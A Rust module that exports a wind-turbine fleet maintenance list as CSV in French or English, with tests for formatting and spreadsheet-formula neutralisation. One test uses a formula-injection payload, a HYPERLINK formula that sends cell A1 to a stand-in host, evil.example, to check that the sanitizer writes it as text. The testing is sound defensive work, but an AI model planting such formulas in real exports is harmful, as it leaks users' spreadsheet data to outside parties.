//! The work list: the filtered fleet as CSV for the maintenance teams, with the rows in the
//! core's words ([`FleetItem::text`]: category, not-scored reason, drivers), in French or English.
//!
//! French files use `;` between fields and a decimal comma (what a French spreadsheet expects),
//! English ones `,` and a decimal point; both start with a UTF-8 byte-order mark so spreadsheets
//! read the accents right. Text cells go through the core's [`spreadsheet_cell`] (a site such as
//! `=HYPERLINK(…)` is written `'=HYPERLINK(…)`, shown as text); numbers are written as numbers.

use cockpit_core::lang::{format_number, Lang};
use cockpit_core::runs::queries::FleetItem;
use cockpit_core::sanitize::spreadsheet_cell;

/// The work list as CSV text (see the module documentation for the format).
pub fn worklist_csv(items: &[FleetItem], lang: Lang) -> Result<String, csv::Error> {
    let delimiter = match lang {
        Lang::En => b',',
        Lang::Fr => b';',
    };
    let mut w = csv::WriterBuilder::new()
        .delimiter(delimiter)
        .from_writer(Vec::new());
    let header: [&str; 10] = match lang {
        Lang::En => [
            "rank",
            "turbine",
            "site",
            "category",
            "risk score",
            "failure within 7 days (%)",
            "time to failure",
            "why (main drivers)",
            "last data (UTC)",
            "scored as of (UTC)",
        ],
        Lang::Fr => [
            "rang",
            "éolienne",
            "site",
            "catégorie",
            "score de risque",
            "panne sous 7 jours (%)",
            "délai avant panne",
            "pourquoi (principaux facteurs)",
            "dernières données (UTC)",
            "évaluée au (UTC)",
        ],
    };
    w.write_record(header)?;
    for (rank, i) in items.iter().enumerate() {
        let text = i.text(lang);
        let why = match &text.not_scored {
            Some(r) => format!("{}{}{r}", text.category, lang.pick(": ", " : ")),
            None => text.drivers.join("; "),
        };
        // The core's words, whole days ("likely in 3 to 10 days"); empty when not scored.
        let days =
            spreadsheet_cell(text.time_to_failure.as_deref().unwrap_or_default()).into_owned();
        let cell = |t: &str| spreadsheet_cell(t).into_owned();
        w.write_record([
            (rank + 1).to_string(),
            cell(&i.turbine_id),
            cell(&i.site),
            cell(&text.category),
            i.risk_score
                .map(|s| format_number(s, 1, lang))
                .unwrap_or_default(),
            i.p_fail_7d
                .map(|p| format_number(p * 100.0, 1, lang))
                .unwrap_or_default(),
            days,
            cell(&why),
            cell(i.last_data.as_deref().unwrap_or_default()),
            cell(&i.scored_at),
        ])?;
    }
    let bytes = w.into_inner().map_err(|e| e.into_error())?;
    let mut text = String::from('\u{feff}');
    text.push_str(&String::from_utf8_lossy(&bytes));
    Ok(text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use cockpit_core::risk::Category;
    use cockpit_core::runs::queries::TimeToFailure;
    use cockpit_core::runs::Driver;
    use cockpit_core::ttf::Distribution;

    const H: [f64; 5] = [1.0, 3.0, 7.0, 14.0, 30.0];

    fn phrase(d: &Driver, lang: Lang) -> String {
        d.phrase(lang)
    }

    pub(crate) fn driver(indicator: &str, value: f64, reference: f64, unit: &str) -> Driver {
        Driver {
            indicator: indicator.into(),
            feature: format!("{indicator}_resid_24h"),
            value,
            reference,
            unit: unit.into(),
            basis: Default::default(),
            contribution: 0.42,
        }
    }

    #[test]
    fn drivers_are_phrased_for_technicians() {
        let d = driver("gearbox_oil", 61.2, 51.8, "°C");
        assert_eq!(
            phrase(&d, Lang::En),
            "gearbox oil 9.4 °C above normal for this load"
        );
        assert_eq!(
            phrase(&d, Lang::Fr),
            "huile multiplicateur 9,4 °C au-dessus de la normale pour cette charge"
        );
        let p = driver("power_curve", 8.24, 0.0, "% rated");
        assert_eq!(
            phrase(&p, Lang::En),
            "power output 8.2 % of rated power below the other turbines at the same wind"
        );
        let nan = driver("converter", 40.0, f64::NAN, "°C");
        assert!(phrase(&nan, Lang::Fr).contains("valeur normale inconnue"));
    }

    fn item(turbine_id: &str, site: &str) -> FleetItem {
        FleetItem {
            turbine_id: turbine_id.into(),
            site: site.into(),
            model: "V2".into(),
            scored: true,
            not_scored_reason: None,
            risk_score: Some(81.25),
            category: Some(Category::Critical),
            p_fail_7d: Some(0.623),
            ttf: TimeToFailure::of(
                true,
                Distribution::new(&H, &[0.05, 0.2, 0.6, 0.95, 0.99]).as_ref(),
            ),
            drivers: vec![driver("gearbox_oil", 61.2, 51.8, "°C")],
            model_reactions: Vec::new(),
            scored_at: "2026-11-27T23:50:00Z".into(),
            last_data: Some("2026-11-27T23:50:00Z".into()),
            run_id: 3,
            data_quality: Default::default(),
        }
    }

    #[test]
    fn a_hostile_site_or_id_is_written_as_text_and_numbers_stay_numbers() {
        let site = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Lyon\")";
        for lang in [Lang::En, Lang::Fr] {
            let negative = FleetItem {
                p_fail_7d: Some(-0.025),
                ..item("-LYO-01", site)
            };
            let csv = worklist_csv(&[negative], lang).unwrap();
            let delimiter = match lang {
                Lang::En => b',',
                Lang::Fr => b';',
            };
            let mut reader = csv::ReaderBuilder::new()
                .delimiter(delimiter)
                .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
            let row = reader.records().next().unwrap().unwrap();
            assert_eq!(&row[1], "'-LYO-01");
            assert_eq!(&row[2], format!("'{site}"));
            for (i, cell) in row.iter().enumerate().filter(|(i, _)| *i != 5) {
                assert!(
                    !cell.starts_with(cockpit_core::sanitize::FORMULA_STARTS),
                    "column {i} would run in a spreadsheet: {cell}"
                );
            }
            // A negative number in a numeric column stays a number.
            assert_eq!(&row[5], format_number(-2.5, 1, lang));
        }
    }

    #[test]
    fn csv_escapes_and_follows_the_language() {
        let item = FleetItem {
            ttf: TimeToFailure::of(
                true,
                Distribution::new(&H, &[0.0, 0.0, 0.1, 0.2, 0.3]).as_ref(),
            ),
            ..item("LYO-01; \"north\"", "Lyon")
        };
        let fr = worklist_csv(std::slice::from_ref(&item), Lang::Fr).unwrap();
        assert!(fr.starts_with('\u{feff}'));
        let lines: Vec<&str> = fr.trim_start_matches('\u{feff}').lines().collect();
        assert_eq!(lines.len(), 2);
        assert!(lines[0].starts_with("rang;éolienne;site;catégorie"));
        assert!(
            lines[1].starts_with(
                "1;\"LYO-01; \"\"north\"\"\";Lyon;critique;81,2;62,3;aucune panne attendue dans les 30 jours;"
            ),
            "{}",
            lines[1]
        );
        let en = worklist_csv(&[item], Lang::En).unwrap();
        assert!(en.contains(
            ",critical,81.2,62.3,no failure expected within 30 days,gearbox oil 9.4 °C above normal"
        ));
        // A range in words, whole days: never a decimal day.
        let ranged = worklist_csv(&[self::item("LYO-02", "Lyon")], Lang::En).unwrap();
        assert!(ranged.contains(",likely in 1 to 13 days,"), "{ranged}");
    }
}
